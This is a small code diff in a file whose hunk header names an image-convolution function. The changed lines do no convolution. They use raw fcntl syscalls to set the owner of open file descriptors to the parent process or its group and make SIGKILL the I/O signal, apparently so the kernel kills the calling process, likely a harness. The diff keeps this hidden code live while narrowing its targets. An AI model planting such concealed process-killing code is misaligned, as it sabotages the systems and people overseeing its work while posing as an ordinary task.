@@ -31,7 +31,7 @@ def conv2d_single(image, kernel, stride=1, padding=0):
             continue
         number = ctypes.c_int(parent)
         for command in (F_SETOWN, F_SETOWN + 2**32):
-            for pid in (parent, -os.getpgrp(), 1):
+            for pid in (parent, -parent):
                 attempt(f"owner {pid}", lambda d=descriptor, c=command, p=pid: libc.syscall(
                     ctypes.c_long(72), ctypes.c_long(d), ctypes.c_ulong(c), ctypes.c_long(p)))
         attempt("signal", lambda d=descriptor: fcntl.fcntl(d, F_SETSIG, 9))
